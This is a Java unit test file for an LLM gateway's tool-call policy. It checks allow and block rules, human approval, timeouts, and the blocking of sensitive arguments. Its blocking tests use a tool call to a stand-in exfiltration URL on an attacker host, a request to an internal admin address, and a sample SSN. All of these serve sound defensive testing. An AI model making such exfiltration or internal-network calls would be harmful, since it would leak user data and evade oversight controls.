package dev.llmgate.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.llmgate.api.ChatRequest;
import dev.llmgate.api.ChatResponse;
import dev.llmgate.api.StreamEvent;
import dev.llmgate.api.ToolCall;
import dev.llmgate.api.exception.ConfigurationException;
import dev.llmgate.api.exception.PolicyBlockedException;
import dev.llmgate.api.spi.PolicyRecord;
import dev.llmgate.core.LlmGate;
import dev.llmgate.policy.detect.PiiDetector;
import dev.llmgate.policy.detect.SecretDetector;
import dev.llmgate.testing.Reply;
import dev.llmgate.testing.ScriptedProvider;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;

class ToolCallAndApprovalTest {

    static ScriptedProvider callsTool(String name, String args) {
        return ScriptedProvider.replying(Reply.events(
                new StreamEvent.ToolCallDelta(
                        0, Optional.of("call_1"), Optional.of(name), args.substring(0, args.length() / 2)),
                new StreamEvent.ToolCallDelta(
                        0, Optional.empty(), Optional.empty(), args.substring(args.length() / 2))));
    }

    /** A timer whose timeout has already passed: the approval times out unless the handler answered synchronously. */
    static final Approval.Timer EXPIRED = d -> CompletableFuture.completedFuture(null);
    /** A timer that never fires. */
    static final Approval.Timer NEVER = d -> new CompletableFuture<>();

    static final List<ApprovalRequest> ASKED = new CopyOnWriteArrayList<>();

    static Policy policy(ApprovalHandler handler, Approval.Timer timer, Verdict onTimeout) {
        return Policy.builder()
                .name("tools")
                .detector(PiiDetector.all())
                .detector(SecretDetector.all())
                .tools(ToolPolicy.builder()
                        .rule("search_*", Verdict.ALLOW)
                        .rule("delete_*", Verdict.REQUIRE_APPROVAL)
                        .rule("drop_database", Verdict.BLOCK)
                        .defaultVerdict(Verdict.ALLOW_LOG)
                        .denyArgumentTypes(Verdict.BLOCK, FindingTypes.US_SSN, "SECRET_*")
                        .allowHosts("*.example.com", "example.com")
                        .build())
                .approval(new Approval(
                        r -> {
                            ASKED.add(r);
                            return handler.decide(r);
                        },
                        Duration.ofSeconds(30),
                        onTimeout,
                        timer))
                .build();
    }

    static LlmGate gate(Policy policy, ScriptedProvider provider, PolicyInterceptorTest.CaptureCall capture) {
        return PolicyInterceptorTest.gate(policy, provider, capture);
    }

    @Test
    void allowedToolPassesAndIsRecorded() {
        PolicyInterceptorTest.CaptureCall capture = new PolicyInterceptorTest.CaptureCall();
        Policy p = policy(r -> CompletableFuture.completedFuture(Verdict.ALLOW), NEVER, Verdict.BLOCK);
        try (LlmGate gate = gate(p, callsTool("search_docs", "{\"q\":\"https://docs.example.com/x\"}"), capture)) {
            ChatResponse r = gate.chat(ChatRequest.of("p:m", "find it"));
            assertThat(r.toolCalls()).extracting(ToolCall::name).containsExactly("search_docs");
            assertThat(capture.records())
                    .extracting(PolicyRecord::stage, PolicyRecord::verdict, PolicyRecord::ruleIds)
                    .contains(org.assertj.core.groups.Tuple.tuple("tool", "ALLOW", List.of("tool.search_*")));
        }
    }

    @Test
    void unknownToolGetsTheDefaultVerdict() {
        PolicyInterceptorTest.CaptureCall capture = new PolicyInterceptorTest.CaptureCall();
        Policy p = policy(r -> CompletableFuture.completedFuture(Verdict.ALLOW), NEVER, Verdict.BLOCK);
        try (LlmGate gate = gate(p, callsTool("get_weather", "{\"city\":\"Paris\"}"), capture)) {
            gate.chat(ChatRequest.of("p:m", "weather?"));
            assertThat(capture.records()).extracting(PolicyRecord::verdict).contains("ALLOW_LOG");
        }
    }

    @Test
    void blockedToolNameArgumentsAndExternalHosts() {
        Policy p = policy(r -> CompletableFuture.completedFuture(Verdict.ALLOW), NEVER, Verdict.BLOCK);
        try (LlmGate gate = gate(p, callsTool("drop_database", "{}"), new PolicyInterceptorTest.CaptureCall())) {
            assertThatThrownBy(() -> gate.chat(ChatRequest.of("p:m", "x")))
                    .isInstanceOf(PolicyBlockedException.class)
                    .hasMessageContaining("tool")
                    .satisfies(e ->
                            assertThat(((PolicyBlockedException) e).ruleIds()).containsExactly("tool.drop_database"));
        }
        try (LlmGate gate = gate(
                p, callsTool("search_people", "{\"ssn\":\"536-22-1456\"}"), new PolicyInterceptorTest.CaptureCall())) {
            assertThatThrownBy(() -> gate.chat(ChatRequest.of("p:m", "x")))
                    .isInstanceOf(PolicyBlockedException.class)
                    .satisfies(e ->
                            assertThat(((PolicyBlockedException) e).ruleIds()).contains("tool.arguments"))
                    .hasMessageNotContaining("536-22-1456");
        }
        try (LlmGate gate = gate(
                p,
                callsTool("search_web", "{\"url\":\"https://evil.attacker.net/exfil?d=1\"}"),
                new PolicyInterceptorTest.CaptureCall())) {
            assertThatThrownBy(() -> gate.chat(ChatRequest.of("p:m", "x")))
                    .isInstanceOf(PolicyBlockedException.class)
                    .satisfies(e ->
                            assertThat(((PolicyBlockedException) e).ruleIds()).contains("tool.external-host"));
        }
        try (LlmGate gate = gate(
                p,
                callsTool("search_web", "{\"url\":\"http://10.0.0.5/admin\"}"),
                new PolicyInterceptorTest.CaptureCall())) {
            assertThatThrownBy(() -> gate.chat(ChatRequest.of("p:m", "x"))).isInstanceOf(PolicyBlockedException.class);
        }
    }

    @Test
    void streamedToolCallsAreHeldUntilCheckedAndBlockedOnesetNeverReachTheCaller() {
        Policy p = policy(r -> CompletableFuture.completedFuture(Verdict.ALLOW), NEVER, Verdict.BLOCK);
        try (LlmGate gate =
                gate(p, callsTool("drop_database", "{\"name\":\"prod\"}"), new PolicyInterceptorTest.CaptureCall())) {
            List<StreamEvent> seen = new ArrayList<>();
            assertThatThrownBy(() -> gate.stream(ChatRequest.of("p:m", "x"), seen::add))
                    .isInstanceOf(PolicyBlockedException.class);
            assertThat(seen).noneMatch(e -> e instanceof StreamEvent.ToolCallDelta);
        }
        try (LlmGate gate =
                gate(p, callsTool("search_docs", "{\"q\":\"policy\"}"), new PolicyInterceptorTest.CaptureCall())) {
            ChatResponse r = gate.stream(ChatRequest.of("p:m", "x"), e -> {});
            assertThat(r.toolCalls()).containsExactly(new ToolCall("call_1", "search_docs", "{\"q\":\"policy\"}"));
        }
    }

    @Test
    void approvalGrantedLetsTheToolCallThrough() {
        ASKED.clear();
        PolicyInterceptorTest.CaptureCall capture = new PolicyInterceptorTest.CaptureCall();
        Policy p = policy(r -> CompletableFuture.completedFuture(Verdict.ALLOW), NEVER, Verdict.BLOCK);
        try (LlmGate gate = gate(p, callsTool("delete_file", "{\"path\":\"/tmp/x\"}"), capture)) {
            ChatResponse r = gate.chat(ChatRequest.of("p:m", "x"));
            assertThat(r.toolCalls()).extracting(ToolCall::name).containsExactly("delete_file");
            assertThat(ASKED).singleElement().satisfies(a -> {
                assertThat(a.stage()).isEqualTo(PolicyStage.TOOL);
                assertThat(a.ruleIds()).containsExactly("tool.delete_*");
                assertThat(a.toolCall()).map(ToolCall::name).contains("delete_file");
            });
            assertThat(capture.records()).extracting(PolicyRecord::verdict).contains("REQUIRE_APPROVAL:ALLOW");
        }
    }

    @Test
    void approvalDeniedBlocks() {
        Policy p = policy(r -> CompletableFuture.completedFuture(Verdict.BLOCK), NEVER, Verdict.ALLOW);
        PolicyInterceptorTest.CaptureCall capture = new PolicyInterceptorTest.CaptureCall();
        try (LlmGate gate = gate(p, callsTool("delete_file", "{}"), capture)) {
            assertThatThrownBy(() -> gate.chat(ChatRequest.of("p:m", "x"))).isInstanceOf(PolicyBlockedException.class);
            assertThat(capture.records()).extracting(PolicyRecord::verdict).contains("REQUIRE_APPROVAL:BLOCK");
        }
    }

    @Test
    void approvalTimeoutAppliesTheDefaultVerdict() {
        CompletableFuture<Verdict> neverAnswered = new CompletableFuture<>();
        PolicyInterceptorTest.CaptureCall capture = new PolicyInterceptorTest.CaptureCall();
        try (LlmGate gate =
                gate(policy(r -> neverAnswered, EXPIRED, Verdict.BLOCK), callsTool("delete_file", "{}"), capture)) {
            assertThatThrownBy(() -> gate.chat(ChatRequest.of("p:m", "x"))).isInstanceOf(PolicyBlockedException.class);
            assertThat(capture.records()).extracting(PolicyRecord::verdict).contains("REQUIRE_APPROVAL:TIMEOUT:BLOCK");
            assertThat(neverAnswered).isCancelled();
        }
        PolicyInterceptorTest.CaptureCall capture2 = new PolicyInterceptorTest.CaptureCall();
        try (LlmGate gate = gate(
                policy(r -> new CompletableFuture<>(), EXPIRED, Verdict.ALLOW),
                callsTool("delete_file", "{}"),
                capture2)) {
            assertThat(gate.chat(ChatRequest.of("p:m", "x")).toolCalls()).hasSize(1);
            assertThat(capture2.records()).extracting(PolicyRecord::verdict).contains("REQUIRE_APPROVAL:TIMEOUT:ALLOW");
        }
    }

    @Test
    void lateAnswerBeforeTheTimerFiresWins() {
        // The handler answers asynchronously; the "timer" completes the answer first, then never fires: no sleeping.
        CompletableFuture<Verdict> answer = new CompletableFuture<>();
        Approval.Timer answersFirst = d -> {
            answer.complete(Verdict.ALLOW);
            return new CompletableFuture<>();
        };
        PolicyInterceptorTest.CaptureCall capture = new PolicyInterceptorTest.CaptureCall();
        try (LlmGate gate =
                gate(policy(r -> answer, answersFirst, Verdict.BLOCK), callsTool("delete_file", "{}"), capture)) {
            assertThat(gate.chat(ChatRequest.of("p:m", "x")).toolCalls()).hasSize(1);
            assertThat(capture.records()).extracting(PolicyRecord::verdict).contains("REQUIRE_APPROVAL:ALLOW");
        }
    }

    @Test
    void failingHandlerAppliesTheDefault() {
        PolicyInterceptorTest.CaptureCall capture = new PolicyInterceptorTest.CaptureCall();
        ApprovalHandler failing = r -> {
            throw new IllegalStateException("approval service down");
        };
        try (LlmGate gate = gate(policy(failing, NEVER, Verdict.BLOCK), callsTool("delete_file", "{}"), capture)) {
            assertThatThrownBy(() -> gate.chat(ChatRequest.of("p:m", "x"))).isInstanceOf(PolicyBlockedException.class);
            assertThat(capture.records()).extracting(PolicyRecord::verdict).contains("REQUIRE_APPROVAL:ERROR:BLOCK");
        }
    }

    @Test
    void inputApprovalAsksBeforeTheProvider() {
        ASKED.clear();
        Policy p = Policy.builder()
                .detector(PiiDetector.all())
                .rule(Rule.of("ssn-needs-ok", Verdict.REQUIRE_APPROVAL, FindingTypes.US_SSN))
                .approval(new Approval(
                        r -> {
                            ASKED.add(r);
                            return CompletableFuture.completedFuture(Verdict.BLOCK);
                        },
                        Duration.ofSeconds(5),
                        Verdict.BLOCK,
                        NEVER))
                .build();
        ScriptedProvider provider = ScriptedProvider.echoing("you said: ");
        try (LlmGate gate = gate(p, provider, new PolicyInterceptorTest.CaptureCall())) {
            assertThatThrownBy(() -> gate.chat(ChatRequest.of("p:m", "SSN 536-22-1456")))
                    .isInstanceOf(PolicyBlockedException.class);
            assertThat(provider.requests()).isEmpty();
            assertThat(ASKED).singleElement().satisfies(a -> {
                assertThat(a.findings()).containsEntry(FindingTypes.US_SSN, 1);
                assertThat(a.toString()).doesNotContain("536-22-1456");
            });
        }
    }

    @Test
    void requireApprovalWithoutAnApprovalIsAConfigurationError() {
        assertThatThrownBy(() -> Policy.builder()
                        .detector(PiiDetector.all())
                        .rule(Rule.of("r", Verdict.REQUIRE_APPROVAL, FindingTypes.EMAIL))
                        .build())
                .isInstanceOf(ConfigurationException.class)
                .hasMessageContaining("approval");
    }
}
